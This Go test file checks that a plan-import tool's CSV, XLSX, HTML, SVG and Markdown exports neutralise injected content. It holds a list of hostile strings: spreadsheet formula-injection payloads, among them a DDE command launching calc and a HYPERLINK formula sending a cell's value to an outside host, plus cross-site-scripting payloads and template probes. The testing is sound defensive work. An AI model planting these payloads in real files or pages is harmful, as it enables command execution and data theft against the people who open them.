package main

import (
	"archive/zip"
	"encoding/csv"
	"fmt"
	"io"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"piao/fixtures/danno"
)

// hostile are texts that do harm where they are taken for more than text.
var hostile = []string{
	`=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-1+cmd|' /C calc'!A0`, `=HYPERLINK("http://esempio.it?"&A1,"apri")`,
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</title></style></script><script>alert(1)</script>`, `javascript:alert(1)`,
	`{{.}} ${7*7} <% %>`, `' onmouseover='alert(1)`, `&lt;script&gt;alert(2)&lt;/script&gt;`, `&lt;img src=x onerror=alert(3)&gt;`, `<!--`, `]]><svg onload=alert(1)>`,
}

// hostilePlan writes a plan whose texts are hostile; changed gives its next edition.
func hostilePlan(t *testing.T, file string, changed bool) {
	t.Helper()
	p := danno.Piano(5, len(hostile))
	for i := range p.Schede {
		s, text := &p.Schede[i], hostile[i]
		s.Obiettivo, s.Personale, s.Descrizione = text, text, "testo\n"+text
		s.Fasi[0].Descrizione, s.Fasi[0].Motivazione = text, text
		s.Indicatori[0].Descrizione, s.Indicatori[0].ValoreAtteso, s.Indicatori[0].Note = text, text, text
		if changed {
			s.Personale, s.Fasi[0].Descrizione, s.Indicatori[0].ValoreAtteso = text+" e altro", "altro "+text, text+" 2"
		}
	}
	writeFile(t, file, danno.Pulito(p))
}

func TestExportsAreSafeToOpen(t *testing.T) {
	dir := t.TempDir()
	first, second, db := filepath.Join(dir, "uno.txt"), filepath.Join(dir, "due.txt"), filepath.Join(dir, "piao.db")
	hostilePlan(t, first, false)
	hostilePlan(t, second, true)
	if _, errOut, code := runPiao(t, "import", "-q", "--db", db, first); code != exitOK {
		t.Fatalf("exit code %d: %s", code, errOut)
	}
	matches := filepath.Join(dir, "coppie.csv")
	t.Run("csv", func(t *testing.T) {
		quoted := 0
		for _, args := range [][]string{
			{"query", "--db", db, "SELECT obiettivo, personale, descrizione, peso FROM v_schede"},
			{"query", "--db", db, `SELECT testo AS "=1+1" FROM v_celle`},
			{"query", "--db", db, "SELECT -5 AS n, '-5,0' AS testo, '-' AS nulla"},
			{"search", "--db", db, "calc"}, {"list", "--db", db}, {"rules"}, {"check", first}, {"diff", first, second},
		} {
			out, errOut, _ := runPiao(t, append(args, "--format", "csv")...)
			records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			if err != nil || len(records) == 0 {
				t.Errorf("%v: %v, %s", args, err, errOut)
			}
			for _, cell := range flat(records) {
				if runs(cell) {
					t.Errorf("%v: a formula: %s", args, cell)
				}
				if strings.HasPrefix(cell, "'=cmd") {
					quoted++
				}
			}
		}
		if quoted == 0 {
			t.Error("no formula was there to be quoted: the test shows nothing")
		}
	})
	t.Run("export csv", func(t *testing.T) {
		quoted := 0
		for _, dialect := range []string{"rfc4180", "excel-it"} {
			for _, table := range []string{"schede", "fasi", "indicatori", "rilievi"} {
				out, errOut, code := runPiao(t, "export", "-q", "--db", db, "--dialect", dialect, "--table", table, "-o", "-")
				r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
				if dialect == "excel-it" {
					r.Comma = ';'
				}
				records, err := r.ReadAll()
				if code != exitOK || err != nil || len(records) == 0 {
					t.Errorf("%s, %s: exit code %d, %v: %s", dialect, table, code, err, errOut)
				}
				for _, cell := range flat(records) {
					if runs(cell) && cell != "=" && !regexp.MustCompile(`^="[^"]*"$`).MatchString(cell) { // an operator; what Excel is to take for a text
						t.Errorf("%s, %s: a formula: %s", dialect, table, cell)
					}
					if strings.HasPrefix(cell, "'=cmd") {
						quoted++
					}
				}
			}
		}
		if quoted == 0 {
			t.Error("no formula was there to be quoted: the test shows nothing")
		}
	})
	t.Run("xlsx", func(t *testing.T) {
		book := filepath.Join(dir, "piano.xlsx")
		if _, errOut, code := runPiao(t, "export", "-q", "--db", db, "--format", "xlsx", "-o", book); code != exitOK {
			t.Fatalf("exit code %d: %s", code, errOut)
		}
		z, err := zip.OpenReader(book)
		if err != nil {
			t.Fatal(err)
		}
		defer z.Close()
		texts := 0
		for _, f := range z.File {
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			data, err := io.ReadAll(r)
			if err != nil {
				t.Fatal(err)
			}
			_ = r.Close()
			texts += strings.Count(string(data), "cmd|")
			for _, formula := range regexp.MustCompile(`(?s)<(?:f|formula1|definedName)\b[^>]*>(.*?)</`).FindAllStringSubmatch(string(data), -1) {
				own := regexp.MustCompile(`&#39;.*?&#39;!`).ReplaceAllString(formula[1], "") // a sheet is named for its scheda, in quotes
				if regexp.MustCompile(`cmd|HYPERLINK|alert|esempio`).MatchString(own) {
					t.Errorf("%s: a formula of the document: %s", f.Name, formula[1])
				}
			}
			if strings.Contains(string(data), `TargetMode="External"`) {
				t.Errorf("%s leads outside", f.Name)
			}
		}
		if texts == 0 {
			t.Error("the texts are not there: the test shows nothing")
		}
	})
	t.Run("report", func(t *testing.T) {
		for _, args := range [][]string{{"report", "--db", db}, {"report", first, second}} {
			out, errOut, code := runPiao(t, args...)
			if code != exitOK || !strings.Contains(out, "&lt;svg onload=alert(1)&gt;") || strings.Count(strings.ToLower(out), "<script") != 1 {
				t.Fatalf("%v: exit code %d: %s", args, code, errOut)
			}
			checkMarkup(t, out, "script", "link", "form") // the page's own, under its policy
		}
	})
	t.Run("matches", func(t *testing.T) {
		if _, errOut, code := runPiao(t, "diff", "--write-matches", matches, first, second); code != exitFound {
			t.Fatalf("exit code %d: %s", code, errOut)
		}
		if out, errOut, code := runPiao(t, "diff", "--match", matches, first, second); code != exitFound || out == "" {
			t.Errorf("read again: exit code %d: %s", code, errOut)
		}
	})
	t.Run("html", func(t *testing.T) {
		out, errOut, code := runPiao(t, "diff", "--format", "html", first, second)
		if code != exitFound || !strings.Contains(out, "&lt;svg onload=alert(1)&gt;") {
			t.Fatalf("exit code %d: %s", code, errOut)
		}
		checkMarkup(t, out)
	})
	t.Run("svg", func(t *testing.T) {
		var objects []string
		objects = append(objects, "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[4 0 R]/Count 1>>", "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>")
		var table strings.Builder
		for _, text := range hostile {
			fmt.Fprintf(&table, "%s\t%s\n", strings.NewReplacer("(", "[", ")", "]").Replace(text), "cella")
		}
		width, height, content := drawTable(table.String())
		objects = append(objects, fmt.Sprintf("<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d %d]/Contents 5 0 R/Resources<</Font<</F 3 0 R>>>>>>", width, height),
			fmt.Sprintf("<</Length %d>>\nstream\n%s\nendstream", len(content), content))
		file := filepath.Join(dir, "tabella.pdf")
		writeFile(t, file, string(pdfOf(objects)))
		if _, errOut, code := runPiao(t, "extract", "--raw", "--format", "svg", "-o", dir, file); code != exitOK {
			t.Fatalf("exit code %d: %s", code, errOut)
		}
		drawn := readFile(t, filepath.Join(dir, "tabella-pagina-001.svg"))
		if !strings.Contains(drawn, "&lt;script") {
			t.Errorf("the text is not there: %.500s", drawn)
		}
		checkMarkup(t, drawn)
	})
	t.Run("md", func(t *testing.T) {
		for _, args := range [][]string{{"check", first}, {"diff", first, second}, {"history", "1", "--db", db}} {
			out, _, _ := runPiao(t, append(args, "--format", "md")...)
			if tag := regexp.MustCompile(`(?i)<(?:script|img|svg|/?title|!--)`).FindString(out); tag != "" || out == "" {
				t.Errorf("%v: %s stands as it is in %.300s", args, tag, out)
			}
		}
	})
}

func flat(records [][]string) (cells []string) {
	for _, r := range records {
		cells = append(cells, r...)
	}
	return cells
}

// runs says whether a spreadsheet takes a cell for a formula that does more than give a number.
func runs(cell string) bool {
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && !regexp.MustCompile(`^[+-]?[\d.,]*%?$`).MatchString(cell)
}

// checkMarkup fails where a page has an element or an attribute that runs something or fetches from elsewhere; own are the elements that
// it has once of its own.
func checkMarkup(t *testing.T, page string, own ...string) {
	t.Helper()
	seen := map[string]int{}
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tag := z.Token()
			seen[tag.Data]++
			switch mine := slices.Contains(own, tag.Data) && seen[tag.Data] == 1; tag.Data {
			case "script", "img", "iframe", "object", "embed", "link", "base", "form", "foreignobject":
				if !mine {
					t.Errorf("an element %s", tag)
				}
			}
			for _, a := range tag.Attr {
				value := strings.ToLower(strings.TrimSpace(a.Val))
				if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(value, "javascript:") || (a.Key == "href" || a.Key == "src") && strings.Contains(value, ":") && value != "data:," {
					t.Errorf("an attribute %s=%q of %s", a.Key, a.Val, tag.Data)
				}
			}
		}
	}
}
